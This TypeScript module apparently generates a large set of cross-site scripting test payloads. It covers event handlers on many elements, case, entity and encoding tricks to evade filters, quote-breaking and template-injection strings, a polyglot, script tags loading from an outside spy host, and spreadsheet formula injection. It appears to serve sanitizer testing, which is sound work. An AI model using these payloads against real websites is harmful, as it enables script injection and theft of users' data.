import { addressVectors } from './address-vectors.ts';
import { foreignContent, mutationVectors } from './foreign-vectors.ts';
import { documentVectors, loadingVectors, styleVectors } from './loading-vectors.ts';
import { call, spy, spyHost } from './vector-parts.ts';

/** A family of ways to run or load something from markup; each gives its own vectors. */
const families: Readonly<Record<string, () => string[]>> = {
  handlers: handlerVectors,
  writing: writtenDifferently,
  addresses: addressVectors,
  foreign: foreignContent,
  mutation: mutationVectors,
  styles: styleVectors,
  loading: loadingVectors,
  documents: documentVectors,
  contexts: contextVectors,
};

/** Hundreds of vectors in the shapes that are published, made here by combining their parts. The same at every call. */
export function xssVectors(): readonly string[] {
  return [...new Set(Object.values(families).flatMap((make) => make()))];
}

/** Those that fit into one line of 200 signs: for subjects, names of people and names of files. */
export function shortVectors(): readonly string[] {
  return xssVectors().filter((vector) => vector.length <= 200 && !/[\r\n\0]/u.test(vector));
}

const handlers =
  'onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onmousedown onmouseup onmouseout onwheel onfocus onfocusin onblur onkeydown onkeypress onkeyup oninput onchange onsubmit onreset onselect oncopy oncut onpaste oncontextmenu ondrag ondragstart ondrop onscroll onscrollend onresize ontoggle onbeforetoggle onpointerdown onpointerenter onpointermove onpointerover onpointerrawupdate ontouchstart ontransitionend ontransitionrun onanimationstart onanimationiteration onanimationend onhashchange onpageshow onmessage onpopstate onbeforeunload oncanplay oncanplaythrough ondurationchange onended onloadeddata onloadedmetadata onloadstart onplay onplaying onprogress onseeked onstalled ontimeupdate onvolumechange onwaiting onauxclick onbeforecopy onbeforeinput oncuechange onformdata oninvalid onsearch onsecuritypolicyviolation onslotchange onwebkitanimationstart onbegin onend onrepeat onafterscriptexecute onstart onfinish onbounce onreadystatechange onpropertychange'.split(
    ' ',
  );
const elements =
  'a abbr article audio b body br button canvas center details dialog div embed fieldset font footer form frameset h1 header hr i iframe image img input isindex keygen label li link main marquee math menu meter nav object ol option p pre q s section select small span strong style sub summary svg table tbody td textarea tfoot th time title tr track u ul video xss custom-element'.split(
    ' ',
  );

/** Each handler on three elements, each element with two handlers. */
function handlerVectors(): string[] {
  const vectors = handlers.flatMap((handler) => [
    `<img src=x ${handler}=${call}>`,
    `<svg ${handler}=${call} tabindex=1 autofocus>`,
    `<div contenteditable ${handler}="${call}" style="animation-name:x">x</div>`,
  ]);
  return [
    ...vectors,
    ...elements.flatMap((element) => [
      `<${element} onfocus=${call} autofocus tabindex=0>x</${element}>`,
      `<${element} src=x onerror="${call}" onload="${call}">`,
    ]),
    `<body onload=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<audio src onloadstart=${call}>`,
    `<details open ontoggle=${call}>`,
    `<marquee onstart=${call} loop=1>x</marquee>`,
    `<input onfocus=${call} autofocus>`,
    `<select autofocus onfocus=${call}><option>x`,
    `<a id=x tabindex=1 onbeforeactivate=${call}>`,
    `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${call}>x</div>`,
  ];
}

/** One vector in the ways by which filters are passed: case, quotes, blanks, entities, half tags, doubled tags. */
function writtenDifferently(): string[] {
  const entities = Array.from(call, (sign) => `&#${sign.charCodeAt(0)};`).join('');
  const hex = Array.from(call, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join('');
  const padded = Array.from(call, (sign) => `&#${String(sign.charCodeAt(0)).padStart(7, '0')}`).join('');
  const blanks = [' ', '\t', '\n', '\r', '\f', '/', '//', '\u000b', '\u00a0', '%0a', '/**/'];
  return [
    ...['ImG', 'IMG', 'iMG', 'img/x', 'img//', 'ıMG', 'img\u0000'].map((name) => `<${name} sRc=x OnErRoR=${call}>`),
    ...blanks.map((blank) => `<img${blank}src=x${blank}onerror${blank}=${blank}${call}>`),
    ...['"', "'", '`', '', '""', "''"].map((quote) => `<img src=x onerror=${quote}${call}${quote}>`),
    ...[entities, hex, padded].map((code) => `<img src=x onerror="${code}">`),
    `<img src="x" x=">" onerror=${call}>`,
    `<img src='x' alt='"><img src=x onerror=${call}>'>`,
    `<img alt="a"onerror="${call}"src=x>`,
    `<img src=x onerror=${call} src=y onerror="">`,
    `<img src=x onerror=${call}//`,
    `<img src=x onerror=${call} <b>`,
    `<<img src=x onerror=${call}>>`,
    `<<script>${call}//<</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<script/x>${call}</script>`,
    `<script\n>${call}</script\n>`,
    `<script src=data:,${call}></script>`,
    `<script src="${spy}.js"></script>`,
    `<script src=//${spyHost}/x.js></script>`,
    `<SCRIPT>${call}</SCRIPT>`,
    `<script>${call}`,
    `<script x="</script>">${call}</script>`,
    `"><script>${call}</script>`,
    `'><img src=x onerror=${call}>`,
    `--><img src=x onerror=${call}>`,
    `]]><img src=x onerror=${call}>`,
    `</title><img src=x onerror=${call}>`,
    `</textarea><script>${call}</script>`,
    `</style><img src=x onerror=${call}>`,
    `</noscript><img src=x onerror=${call}>`,
    `</script><svg onload=${call}>`,
    `<\u0000script>${call}</script>`,
    `<scr\u0000ipt>${call}</scr\u0000ipt>`,
    `\u00bcscript\u00be${call}\u00bc/script\u00be`,
    `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
    `%3Cscript%3E${call}%3C/script%3E`,
    `&lt;img src=x onerror=${call}&gt;`,
    `&amp;lt;img src=x onerror=${call}&amp;gt;`,
    `\\u003cimg src=x onerror=${call}\\u003e`,
  ];
}

/** Text that is harmless as HTML and runs where it is put into something else. */
function contextVectors(): string[] {
  return [
    `';${call}//`,
    `";${call}//`,
    `\`;${call}//`,
    `'-${call}-'`,
    `"-${call}-"`,
    `\\";${call}//`,
    `</script><script>${call}</script>`,
    `<!--<script>${call}//-->`,
    `\${${call}}`,
    `{{constructor.constructor('${call}')()}}`,
    `{{$on.constructor('${call}')()}}`,
    `#{${call}}`,
    `<%= ${call} %>`,
    `[[${call}]]`,
    `{%raw%}${call}`,
    `javascript:${call}`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${call}//>\\x3e`,
    `" autofocus onfocus=${call} x="`,
    `' autofocus onfocus=${call} x='`,
    ` onfocus=${call} autofocus `,
    `x" onerror="${call}`,
    `x' onerror='${call}`,
    `%22%3E%3Cimg%20src=x%20onerror=${call}%3E`,
    `\u2028${call}\u2029`,
    `\u202e>(1)trela=rorreno x=crs gmi<`,
    `[x](javascript:${call})`,
    `![x](x"onerror="${call})`,
    `=HYPERLINK("${spy}","x")`,
    `=1+1`,
    `@SUM(1+1)`,
  ];
}
